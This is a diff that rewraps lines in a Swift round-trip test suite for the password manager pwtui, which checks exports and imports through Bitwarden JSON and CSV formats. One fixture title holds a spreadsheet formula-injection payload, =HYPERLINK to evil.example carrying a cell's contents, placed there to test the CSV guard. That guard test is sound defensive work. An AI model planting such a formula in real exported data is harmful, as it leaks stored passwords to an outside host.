@@ -21,13 +21,19 @@ struct RoundTripTests {
     func sourceVault() throws -> Vault {
         let now = Mutex<Int64>(1_700_000_000_123)
         let clock = Clock { Timestamp(millisecondsSince1970: now.withLock { $0 }) }
-        let vault = try Vault.create(at: try directory.freshPath("source.pwtui"), password: try secure("x"),
-                                     parameters: .interactive, environment: VaultEnvironment(clock: clock, derivation: MemoizingDerivation()))
-        let github = try vault.add(services: [try ServiceIdentifier("https://github.com/login"), try ServiceIdentifier("gist.github.com"),
-                                              try ServiceIdentifier("android://aGFzaA==@com.github.android/")],
-                                   username: "alice", secret: try secure("first, \"quoted\"\npassword"), title: "GitHub — \"work\", main",
-                                   notes: "line 1\nline 2, with \"quotes\"\n日本語 🔑")
-        try vault.setOneTimeKey(of: github.id, to: OneTimeParameters(algorithm: .sha512, digits: 8, period: 45), key: try secure(Self.totpKey))
+        let vault = try Vault.create(
+            at: try directory.freshPath("source.pwtui"), password: try secure("x"),
+            parameters: .interactive, environment: VaultEnvironment(clock: clock, derivation: MemoizingDerivation()))
+        let github = try vault.add(
+            services: [
+                try ServiceIdentifier("https://github.com/login"), try ServiceIdentifier("gist.github.com"),
+                try ServiceIdentifier("android://aGFzaA==@com.github.android/"),
+            ],
+            username: "alice", secret: try secure("first, \"quoted\"\npassword"), title: "GitHub — \"work\", main",
+            notes: "line 1\nline 2, with \"quotes\"\n日本語 🔑")
+        try vault.setOneTimeKey(
+            of: github.id, to: OneTimeParameters(algorithm: .sha512, digits: 8, period: 45),
+            key: try secure(Self.totpKey))
         try vault.setField(of: github.id, name: "recovery email", text: "alice@example.org", secret: try secure(""))
         try vault.setField(of: github.id, name: "PIN", text: nil, secret: try secure("9,\"old\"\u{00e9}"))
         now.withLock { $0 += 60_000 }
@@ -36,10 +42,12 @@ struct RoundTripTests {
         try vault.replaceSecret(of: github.id, with: try secure("second"))
         now.withLock { $0 += 60_000 }
         try vault.replaceSecret(of: github.id, with: try secure("third ✓"))
-        try vault.add(services: [try ServiceIdentifier("192.168.1.1:8080")], username: "", secret: try secure(""), title: "")
+        try vault.add(
+            services: [try ServiceIdentifier("192.168.1.1:8080")], username: "", secret: try secure(""), title: "")
         // Cells a spreadsheet would run as formulas: guarded in the CSV exports, read back as they were.
-        try vault.add(services: [try ServiceIdentifier("*.example.co.uk")], username: "@ünïcode", secret: try secure("=1+2"),
-                      title: "=HYPERLINK(\"https://evil.example/?\"&D2)", notes: "-2+3\n=4")
+        try vault.add(
+            services: [try ServiceIdentifier("*.example.co.uk")], username: "@ünïcode", secret: try secure("=1+2"),
+            title: "=HYPERLINK(\"https://evil.example/?\"&D2)", notes: "-2+3\n=4")
         return vault
     }
 
@@ -53,8 +61,9 @@ struct RoundTripTests {
         #expect(plan.invalidCount == 0)
         #expect(plan.warnings.isEmpty, "\(plan.warnings)")
         // And into a real vault, saved and opened again.
-        let target = try Vault.create(at: try directory.freshPath("target.pwtui"), password: try secure("y"),
-                                      parameters: .interactive, environment: VaultEnvironment(derivation: MemoizingDerivation()))
+        let target = try Vault.create(
+            at: try directory.freshPath("target.pwtui"), password: try secure("y"),
+            parameters: .interactive, environment: VaultEnvironment(derivation: MemoizingDerivation()))
         try plan.apply(to: target)
         try target.save()
         #expect(target.contents.credentials.count == source.contents.credentials.count)
@@ -69,8 +78,10 @@ struct RoundTripTests {
         plan.batch.secrets.withBytes(of: reference) { Array($0) }
     }
 
-    func compare(_ original: Credential, in source: Vault, with copy: Credential, in plan: ImportPlan,
-                 title: Bool = true, history: Bool, fieldHistory: Bool = true) {
+    func compare(
+        _ original: Credential, in source: Vault, with copy: Credential, in plan: ImportPlan,
+        title: Bool = true, history: Bool, fieldHistory: Bool = true
+    ) {
         if title { #expect(copy.title == original.title) } else { #expect(copy.displayTitle == original.displayTitle) }
         #expect(copy.services == original.services)
         #expect(copy.username == original.username)
@@ -83,11 +94,16 @@ struct RoundTripTests {
         #expect(copy.fields.map(\.name) == original.fields.map(\.name))
         #expect(copy.fields.map(\.isSecret) == original.fields.map(\.isSecret))
         #expect(copy.fields.map(\.text) == original.fields.map(\.text))
-        #expect(copy.fields.map { $0.secret.map { secret(plan, $0) } } == original.fields.map { $0.secret.map { secret(source, $0) } })
+        #expect(
+            copy.fields.map { $0.secret.map { secret(plan, $0) } }
+                == original.fields.map { $0.secret.map { secret(source, $0) } })
         // A secret field's earlier values: carried by pwtui's CSV and Bitwarden JSON (fieldHistory).
         if fieldHistory {
-            #expect(copy.fields.map { $0.history.map(\.replaced) } == original.fields.map { $0.history.map(\.replaced) })
-            #expect(copy.fields.map { $0.history.map { secret(plan, $0.secret) } } == original.fields.map { $0.history.map { secret(source, $0.secret) } })
+            #expect(
+                copy.fields.map { $0.history.map(\.replaced) } == original.fields.map { $0.history.map(\.replaced) })
+            #expect(
+                copy.fields.map { $0.history.map { secret(plan, $0.secret) } }
+                    == original.fields.map { $0.history.map { secret(source, $0.secret) } })
         }
         if history {
             #expect(copy.history.map(\.replaced) == original.history.map(\.replaced))
@@ -96,7 +112,10 @@ struct RoundTripTests {
     }
 
     func matching(_ original: Credential, in plan: ImportPlan) throws -> Credential {
-        try #require(plan.additions.map(\.credential).first { $0.username == original.username && $0.services.first?.host == original.services.first?.host })
+        try #require(
+            plan.additions.map(\.credential).first {
+                $0.username == original.username && $0.services.first?.host == original.services.first?.host
+            })
     }
 
     @Test("Bitwarden JSON: every field, history included (a secret field's as `NAME: value` entries)")
@@ -105,7 +124,9 @@ struct RoundTripTests {
         let (plan, _) = try roundTrip(.bitwardenJSON, source)
         for original in source.contents.credentials {
             // Bitwarden needs a name: an empty title goes out as the shown one.
-            compare(original, in: source, with: try matching(original, in: plan), in: plan, title: !original.title.isEmpty, history: true)
+            compare(
+                original, in: source, with: try matching(original, in: plan), in: plan, title: !original.title.isEmpty,
+                history: true)
         }
     }
 
@@ -118,10 +139,13 @@ struct RoundTripTests {
         }
     }
 
-    @Test("notes, cards and identities keep their kind and fields through Bitwarden JSON and pwtui's CSV", arguments: [ExportFormat.bitwardenJSON, .csv])
+    @Test(
+        "notes, cards and identities keep their kind and fields through Bitwarden JSON and pwtui's CSV",
+        arguments: [ExportFormat.bitwardenJSON, .csv])
     func items(_ format: ExportFormat) throws {
-        let vault = try Vault.create(at: try directory.freshPath("items.pwtui"), password: try secure("x"), parameters: .interactive,
-                                     environment: VaultEnvironment(derivation: MemoizingDerivation()))
+        let vault = try Vault.create(
+            at: try directory.freshPath("items.pwtui"), password: try secure("x"), parameters: .interactive,
+            environment: VaultEnvironment(derivation: MemoizingDerivation()))
         let card = try vault.add(services: [], username: "", secret: try secure(""), title: "Visa", notes: "lost? call")
         try vault.update(card.id) { $0.kind = .card }
         for (name, value) in [("number", "4111111111111111"), ("security code", "123"), ("PIN", "9876")] {
@@ -143,9 +167,13 @@ struct RoundTripTests {
             #expect(copy.kind == original.kind)
             #expect(copy.notes == original.notes)
             func described(_ fields: [NamedField], _ value: (SecretReference) -> [UInt8]) -> [String: String] {
-                Dictionary(uniqueKeysWithValues: fields.map { field in
-                    (field.name, field.text ?? "secret " + String(decoding: field.secret.map(value) ?? [], as: UTF8.self))
-                })
+                Dictionary(
+                    uniqueKeysWithValues: fields.map { field in
+                        (
+                            field.name,
+                            field.text ?? "secret " + String(decoding: field.secret.map(value) ?? [], as: UTF8.self)
+                        )
+                    })
             }
             #expect(described(copy.fields) { secret(plan, $0) } == described(original.fields) { secret(vault, $0) })
         }
@@ -164,14 +192,19 @@ struct RoundTripTests {
             } else {
                 #expect(copy.services == [original.services[0]])
                 // No column for fields or a second service: the notes carry them.
-                #expect(copy.notes == original.notes + "\n\nrecovery email: alice@example.org\n\nURL: gist.github.com\nURL: android://aGFzaA==@com.github.android/\n\nPIN: 12,\"34")
+                #expect(
+                    copy.notes == original.notes
+                        + "\n\nrecovery email: alice@example.org\n\nURL: gist.github.com\nURL: android://aGFzaA==@com.github.android/\n\nPIN: 12,\"34"
+                )
                 #expect(copy.fields.isEmpty)
                 #expect(secret(plan, copy.secret) == secret(source, original.secret))
             }
         }
     }
 
-    @Test("CSV exports guard text cells beginning with = + - @ TAB or CR; passwords are written as they are", arguments: [ExportFormat.csv, .keepassxcCSV])
+    @Test(
+        "CSV exports guard text cells beginning with = + - @ TAB or CR; passwords are written as they are",
+        arguments: [ExportFormat.csv, .keepassxcCSV])
     func formulaGuard(_ format: ExportFormat) throws {
         let source = try sourceVault()
         var writer = ExportWriter(format: format)
@@ -192,16 +225,20 @@ struct RoundTripTests {
         writer.lastUsed = { $0 == first.id ? used : nil }
         let bytes = try writer.write(source)
         let plan = try bytes.withUnsafeBytes { try ImportSamples.plan(try ImportReader.read(bytes: $0)) }
-        let copied = try #require(plan.additions.first { $0.credential.username == first.username && $0.credential.title == first.title })
+        let copied = try #require(
+            plan.additions.first { $0.credential.username == first.username && $0.credential.title == first.title })
         #expect(copied.lastUsed == used)
         #expect(plan.additions.filter { $0.lastUsed != nil }.count == 1)
     }
 
     @Test("an export's CRLF in notes comes in as LF")
     func crlfNotes() throws {
-        let vault = try Vault.create(at: try directory.freshPath("crlf.pwtui"), password: try secure("x"), parameters: .interactive,
-                                     environment: VaultEnvironment(derivation: MemoizingDerivation()))
-        try vault.add(services: [try ServiceIdentifier("example.org")], username: "u", secret: try secure("p"), notes: "a\r\nb\rc")
+        let vault = try Vault.create(
+            at: try directory.freshPath("crlf.pwtui"), password: try secure("x"), parameters: .interactive,
+            environment: VaultEnvironment(derivation: MemoizingDerivation()))
+        try vault.add(
+            services: [try ServiceIdentifier("example.org")], username: "u", secret: try secure("p"), notes: "a\r\nb\rc"
+        )
         let (plan, _) = try roundTrip(.bitwardenJSON, vault)
         #expect(plan.additions.first?.credential.notes == "a\nb\nc")
     }
@@ -213,8 +250,10 @@ struct RoundTripTests {
         let bytes = try writer.write(source)
         let path = try directory.freshPath("again.json")
         try bytes.withUnsafeBytes { try Data($0).write(to: URL(fileURLWithPath: path)) }
-        let again = ImportPlan(try ImportReader.read(path), existing: source.contents.credentials, existingSecrets: source.contents.secrets,
-                               policy: .update, now: Timestamp(millisecondsSince1970: 0), suffixes: ImportSamples.suffixes)
+        let again = ImportPlan(
+            try ImportReader.read(path), existing: source.contents.credentials,
+            existingSecrets: source.contents.secrets,
+            policy: .update, now: Timestamp(millisecondsSince1970: 0), suffixes: ImportSamples.suffixes)
         #expect(again.addedCount == 0)
         #expect(again.updatedCount == 0)
         #expect(again.steps.allSatisfy { if case .duplicate = $0.action { return true } else { return false } })
